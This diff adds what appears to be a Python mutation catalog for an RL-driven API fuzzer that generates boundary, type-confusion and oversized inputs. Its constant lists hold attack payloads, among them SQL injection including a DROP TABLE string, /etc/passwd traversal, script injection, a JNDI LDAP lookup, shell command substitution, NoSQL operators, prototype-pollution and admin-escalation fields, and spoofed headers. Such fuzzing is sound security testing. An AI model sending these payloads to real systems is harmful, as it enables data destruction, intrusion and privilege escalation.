@@ -0,0 +1,213 @@
+import numpy as np
+from functools import lru_cache
+from typing import Dict, Any, List, Optional, Sequence, Tuple
+from .schema_sampling import sample_from_schema
+
+# Boundary values for numeric fields (JSON-encodable: no NaN / Infinity)
+BOUNDARY_NUMBERS = [0, -1, 1, 2**31 - 1, 2**31, -2**31 - 1, 2**53 + 1, 2**63, -2**63 - 1,
+                    1e308, -1e308, 5e-324, -0.0, 0.1 + 0.2]
+
+UNICODE_STRINGS = [
+    "", " ", "\u0000", "\u200b", "\u202eevil", "e\u0301" * 64, "\U0001d54f\U0001f642" * 32,
+    "\ufeffBOM", "%00", "%c0%af", "\\u0000", "\r\nX-Injected: 1", "\uff21\uff24\uff2d\uff29\uff2e", "\u0130\u0131",
+]
+
+INJECTION_STRINGS = [
+    "' OR '1'='1", "1; DROP TABLE users--", "\" OR \"\"=\"", "' UNION SELECT NULL--",
+    "../../../../etc/passwd", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x/a}",
+    "$(sleep 5)", "admin'--",
+]
+NOSQL_OPERATORS = [{"$ne": None}, {"$gt": ""}, {"$where": "sleep(1000)"}]
+
+HUGE_STRING_SIZES = [10_000, 100_000, 1_000_000]
+HUGE_ARRAY_SIZES = [1_000, 10_000, 100_000]
+NESTING_DEPTHS = [32, 128, 512]  # Deeper than ~900 trips the client's own JSON encoder
+
+EXTRA_FIELDS = [
+    {"isAdmin": True}, {"role": "admin"}, {"id": 1}, {"__proto__": {"isAdmin": True}},
+    {"constructor": {"prototype": {"polluted": True}}}, {"_id": {"$ne": None}},
+]
+
+QUERY_MUTATIONS = [
+    [("limit", "-1")], [("limit", "99999999999999999999")], [("page", "0")], [("offset", "-100")],
+    [("id", "1"), ("id", "2")],  # Parameter pollution
+    [("sort", "' OR 1=1--")], [("filter[$ne]", "")], [("q", "\u0000")], [("fields", "*" * 4096)],
+]
+
+HEADER_MUTATIONS = [
+    {"Content-Type": "text/plain"}, {"Content-Type": "application/xml"},
+    {"Content-Type": "application/json; charset=utf-7"}, {"Accept": "application/xml"},
+    {"X-HTTP-Method-Override": "DELETE"}, {"X-Forwarded-For": "127.0.0.1"},
+    {"Authorization": "Bearer " + "A" * 8192}, {"Origin": "null"},
+]
+
+TYPE_CONFUSION = {
+    "string": [12345, True, [], {}, None, ["a"]],
+    "number": ["123abc", "NaN", "1e309", [1], {"$gt": 0}, True],
+    "integer": ["1", 1.5, "0x10", [1], True, -0.0],
+    "boolean": ["true", 0, 1, "yes", [], None],
+    "array": [{}, "[]", 0, [None], [[[]]]],
+    "object": ["{}", [], 0, True],
+}
+
+# RL action -> operator family. The RL action set stays the five persisted
+# Q-table columns; each action now samples from a whole family of operators.
+ACTION_OPERATORS = {
+    "standard": ["valid"],
+    "null_injection": ["null_field", "missing_required", "empty_body"],
+    "sql_injection": ["injection_string", "unicode", "query_mutation"],
+    "overflow": ["huge_string", "huge_array", "deep_nesting", "boundary_number"],
+    "type_mismatch": ["type_confusion", "extra_fields", "header_mutation"],
+}
+
+def schema_fields(schema: Any) -> List[Tuple[str, str, bool]]:
+    """
+    (name, type, required) per top-level field. Accepts JSON-schema objects
+    ({"properties": ..., "required": [...]}) and plain {field: "type"} maps,
+    where every field counts as required.
+    """
+    if not isinstance(schema, dict):
+        return []
+    if "properties" in schema or schema.get("type") == "object":
+        required = set(schema.get("required") or [])
+        fields = []
+        for name, spec in (schema.get("properties") or {}).items():
+            kind = spec.get("type", "string") if isinstance(spec, dict) else str(spec)
+            fields.append((name, kind, name in required))
+        return fields
+    return [(name, spec.get("type", "string") if isinstance(spec, dict) else str(spec or "string"), True)
+            for name, spec in schema.items()]
+
+@lru_cache(maxsize=None)
+def _huge_string(size: int) -> str:
+    return "A" * size
+
+@lru_cache(maxsize=None)
+def _huge_array(size: int) -> list:
+    return [1] * size
+
+@lru_cache(maxsize=None)
+def _nested(depth: int) -> dict:
+    value: Any = "leaf"
+    for i in range(depth):
+        value = {"a": value} if i % 2 else [value]
+    return {"nested": value}
+
+class MutationCatalog:
+    """
+    Schema-aware mutation operators. generate() returns N mutations for one
+    schema in a single call; every operator/field/value choice is drawn up front
+    from one seeded generator, so the same seed reproduces the same batch.
+
+    A mutation is {"operator", "field", "body", "query", "headers"}: body is a
+    JSON-able dict, query a list of (key, value) pairs and headers a dict.
+    Huge and deeply nested values are built once and shared between payloads,
+    so treat them as read-only.
+    """
+    def __init__(self, seed: Optional[int] = None):
+        self.rng = np.random.default_rng(seed)
+
+    def base_payload(self, schema: Any) -> Dict[str, Any]:
+        """A valid payload shaped like the schema."""
+        fields = schema_fields(schema)
+        if not fields:
+            return {}
+        payload = sample_from_schema(schema, "field", 1)
+        return payload if isinstance(payload, dict) else {}
+
+    def generate(self, schema: Any, action: str, n: int = 1, seed: Any = None) -> List[Dict[str, Any]]:
+        operators = ACTION_OPERATORS.get(action, ACTION_OPERATORS["standard"])
+        rng = self.rng if seed is None else np.random.default_rng(seed)
+        fields = schema_fields(schema)
+        base = self.base_payload(schema)
+
+        # One vectorized draw for the whole batch: operator, target field and value index
+        op_ids = rng.integers(0, len(operators), n)
+        field_ids = rng.integers(0, max(len(fields), 1), n)
+        picks = rng.integers(0, 1 << 30, n)
+        return [self._apply(operators[o], base, fields, int(f), int(p))
+                for o, f, p in zip(op_ids.tolist(), field_ids.tolist(), picks.tolist())]
+
+    def generate_batch(self, schemas: Sequence[Any], actions: Sequence[str], n: int = 1,
+                       seed: Any = None) -> List[List[Dict[str, Any]]]:
+        """N mutations per (schema, action) pair; with a seed, endpoint i uses the stream (*seed, i)."""
+        base = list(seed) if isinstance(seed, (list, tuple)) else [seed]
+        return [self.generate(schema, action, n, None if seed is None else (*base, i))
+                for i, (schema, action) in enumerate(zip(schemas, actions))]
+
+    def _apply(self, operator: str, base: Dict[str, Any], fields: List[Tuple[str, str, bool]],
+               field_id: int, pick: int) -> Dict[str, Any]:
+        body = dict(base)
+        mutation = {"operator": operator, "field": None, "body": body, "query": [], "headers": {}}
+        name, kind, _ = fields[field_id] if fields else ("value", "string", True)
+
+        def put(value):
+            body[name] = value
+            mutation["field"] = name
+
+        if operator == "null_field":
+            put(None)
+        elif operator == "missing_required":
+            required = [f[0] for f in fields if f[2]] or [name]
+            dropped = required[pick % len(required)]
+            body.pop(dropped, None)
+            mutation["field"] = dropped
+        elif operator == "empty_body":
+            mutation["body"] = {}
+        elif operator == "injection_string":
+            pool = INJECTION_STRINGS + NOSQL_OPERATORS
+            put(pool[pick % len(pool)])
+        elif operator == "unicode":
+            put(UNICODE_STRINGS[pick % len(UNICODE_STRINGS)])
+        elif operator == "query_mutation":
+            mutation["query"] = list(QUERY_MUTATIONS[pick % len(QUERY_MUTATIONS)])
+        elif operator == "huge_string":
+            put(_huge_string(HUGE_STRING_SIZES[pick % len(HUGE_STRING_SIZES)]))
+        elif operator == "huge_array":
+            put(_huge_array(HUGE_ARRAY_SIZES[pick % len(HUGE_ARRAY_SIZES)]))
+        elif operator == "deep_nesting":
+            put(_nested(NESTING_DEPTHS[pick % len(NESTING_DEPTHS)])["nested"])
+        elif operator == "boundary_number":
+            put(BOUNDARY_NUMBERS[pick % len(BOUNDARY_NUMBERS)])
+        elif operator == "type_confusion":
+            pool = TYPE_CONFUSION.get(kind, TYPE_CONFUSION["string"])
+            put(pool[pick % len(pool)])
+        elif operator == "extra_fields":
+            body.update(EXTRA_FIELDS[pick % len(EXTRA_FIELDS)])
+        elif operator == "header_mutation":
+            mutation["headers"] = dict(HEADER_MUTATIONS[pick % len(HEADER_MUTATIONS)])
+        return mutation
+
+def describe(mutation: Dict[str, Any], limit: int = 120) -> str:
+    """Short, prompt-safe rendering of a mutation (huge values are summarized)."""
+    def short(value):
+        if isinstance(value, str) and len(value) > 40:
+            return f"<str len={len(value)}>"
+        if isinstance(value, list) and len(value) > 8:
+            return f"<array len={len(value)}>"
+        if isinstance(value, (dict, list)) and len(repr(value)) > 80:
+            return f"<{type(value).__name__} nested>"
+        return value
+    parts = [mutation["operator"]]
+    if mutation["field"]:
+        parts.append(f"{mutation['field']}={short(mutation['body'].get(mutation['field'], '<removed>'))!r}")
+    if mutation["query"]:
+        parts.append(f"query={[(k, short(v)) for k, v in mutation['query']]}")
+    if mutation["headers"]:
+        parts.append(f"headers={ {k: short(v) for k, v in mutation['headers'].items()} }")
+    text = " ".join(parts)
+    return text if len(text) <= limit else text[:limit - 3] + "..."
+
+if __name__ == "__main__":
+    # Throughput check: python -m app.agents.mutations
+    import time
+    schema = {"name": "string", "price": "number", "tags": "array", "active": "boolean"}
+    catalog = MutationCatalog(seed=0)
+    started = time.perf_counter()
+    batch = catalog.generate_batch([schema] * 100, ["overflow", "type_mismatch", "sql_injection", "null_injection"] * 25,
+                                   n=1000, seed=0)
+    elapsed = time.perf_counter() - started
+    total = sum(len(b) for b in batch)
+    print(f"{total} mutations in {elapsed:.3f}s ({total / elapsed:,.0f}/s)")
+    for mutation in batch[0][:5]:
+        print(" ", describe(mutation))